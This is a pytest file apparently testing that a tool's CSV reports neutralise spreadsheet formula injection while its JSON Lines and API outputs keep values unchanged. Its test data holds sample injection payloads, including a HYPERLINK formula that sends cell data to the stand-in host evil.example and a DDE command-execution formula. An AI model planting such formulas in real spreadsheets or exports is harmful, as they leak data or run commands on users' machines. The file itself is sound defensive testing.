"""CSV formula injection (issue 10, finding 2; SPEC section 5, `report own`): in the CSV a
cell beginning with =, +, -, @, tab or carriage return gets a leading ', so that no
spreadsheet runs it; JSON Lines and the API's items keep every value exactly as stored.

Through the real interfaces, on both engines: records ingested by `servicetrail ingest`,
the report read by `servicetrail report own` and by GET /api/v1/reports/own.csv.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest
from fastapi.testclient import TestClient

from servicetrail.store.engine import open_store
from servicetrail.web.app import create_app
from tests.ingest import sat_line

USER = "90-B3-D5-1F-30-09-00-01"
METER = "00-DB-00-00-00-00-09-01"
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
HARMLESS = {"xml": '<sr:Request schemaVersion="5.1"/>', "apostrophe": "'=1", "inner equals": "a=b"}
PAYLOADS = {**FORMULAS, **HARMLESS}


@pytest.fixture
def trail(cli, tmp_path):
    (tmp_path / "users.csv").write_text(
        f"user_id,party_id,party_name,role\n{USER},SHEETS,Sheets Ltd,IS\n"
    )
    (tmp_path / "devices.csv").write_text(f"device_id,device_type,smets\n{METER},ESME,2\n")
    lines = [
        sat_line.line(
            n,
            when=datetime(2025, 2, 1, 10, 0, n, tzinfo=timezone.utc),
            payload=payload,
            user=USER,
            device=METER,
        )
        for n, payload in enumerate(PAYLOADS.values(), start=1)
    ]
    (tmp_path / "records.jsonl").write_text("".join(line + "\n" for line in lines))
    for what, name in (("users", "users.csv"), ("devices", "devices.csv")):
        assert cli("load", what, tmp_path / name).exit_code == 0
    assert cli("ingest", tmp_path / "records.jsonl").exit_code == 0
    return tmp_path


def payload_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert "payload" in rows[0] and len(rows) == len(PAYLOADS) + 1  # one header row, then data rows
    column = rows[0].index("payload")
    return [row[column] for row in rows[1:]]


def assert_neutralised(cells: list[str]) -> None:
    assert sorted(cells) == sorted(["'" + p for p in FORMULAS.values()] + list(HARMLESS.values()))


def test_the_cli_report_neutralises_formulas_and_json_lines_keep_them(cli, trail):
    window = ("--party", "SHEETS", "--from", "2025-01-01", "--to", "2026-01-01")
    as_csv = cli("report", "own", *window)
    assert as_csv.exit_code == 0, as_csv.output
    assert_neutralised(payload_cells(as_csv.stdout))
    as_jsonl = cli("report", "own", *window, "--format", "jsonl")
    assert as_jsonl.exit_code == 0, as_jsonl.output
    assert sorted(json.loads(line)["payload"] for line in as_jsonl.stdout.splitlines()) == sorted(
        PAYLOADS.values()
    )


def test_report_help_states_the_rule(cli):
    shown = " ".join(cli("report", "own", "--help").stdout.split())
    assert "leading '" in shown and "=, +, -, @, a tab or a carriage return" in shown
    assert "JSON Lines keeps every value exactly as stored" in shown


def test_the_api_report_neutralises_formulas_and_items_keep_them(cli, trail, db_url):
    assert (
        cli(
            "accounts", "create", "sheets", "--party", "SHEETS", input="a long enough password\n"
        ).exit_code
        == 0
    )
    token = cli("tokens", "create", "sheets").stdout.strip()
    headers = {"Authorization": f"Bearer {token}"}
    engine = open_store(db_url)
    try:
        with TestClient(create_app(engine)) as client:
            report = client.get(
                "/api/v1/reports/own.csv",
                headers=headers,
                params={"from": "2025-01-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"},
            )
            assert report.status_code == 200
            assert_neutralised(payload_cells(report.text))
            items = client.get("/api/v1/records", headers=headers, params={"scope": "own"}).json()[
                "items"
            ]
            assert sorted(i["payload"] for i in items) == sorted(PAYLOADS.values())
    finally:
        engine.dispose()
